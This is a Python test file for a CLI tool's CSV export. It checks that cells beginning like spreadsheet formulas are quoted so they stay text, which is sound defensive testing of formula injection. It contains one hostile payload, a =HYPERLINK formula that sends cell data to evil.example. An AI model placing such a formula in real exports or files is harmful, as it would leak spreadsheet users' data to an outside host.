"""CSV exports open safely in a spreadsheet: text that starts like a formula stays text."""

from __future__ import annotations

import csv
import io

from sqlalchemy import update
from typer.testing import CliRunner

from reelwire.cli import app
from reelwire.export.csv_ import spreadsheet_safe
from reelwire.store.schema import entity
from reelwire.store import open_kb
from tests.web.helpers import build

runner = CliRunner()
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_formula_starts_are_quoted_and_the_rest_untouched():
    assert spreadsheet_safe(HOSTILE) == "'" + HOSTILE
    for start in ("+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_safe(start) == "'" + start
    assert spreadsheet_safe("Night Orchard") == "Night Orchard"
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe(0.8) == 0.8 and spreadsheet_safe(None) is None


def _hostile_kb(tmp_path) -> str:
    url = f"sqlite:///{tmp_path / 'kb.db'}"
    build(url)
    with open_kb(url).engine.begin() as conn:
        conn.execute(update(entity).where(entity.c.name == "Lantern Coast").values(name=HOSTILE))
    return url


def test_export_csv_quotes_a_formula_name(tmp_path):
    url = _hostile_kb(tmp_path)
    result = runner.invoke(app, ["--db", url, "export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    subjects = {r["subject"] for r in rows}
    assert "'" + HOSTILE in subjects and HOSTILE not in subjects
    assert not any(v.startswith("=") for r in rows for v in r.values() if v)


def test_query_csv_quotes_a_formula_name(tmp_path):
    url = _hostile_kb(tmp_path)
    result = runner.invoke(app, ["--db", url, "search", "Tomas", "--format", "csv"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(app, ["--db", url, "person", "Tomas Reyes", "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [v for r in csv.DictReader(io.StringIO(result.stdout)) for v in r.values() if v]
    assert any(v == "'" + HOSTILE for v in cells), cells
    assert not any(v.startswith("=") for v in cells)
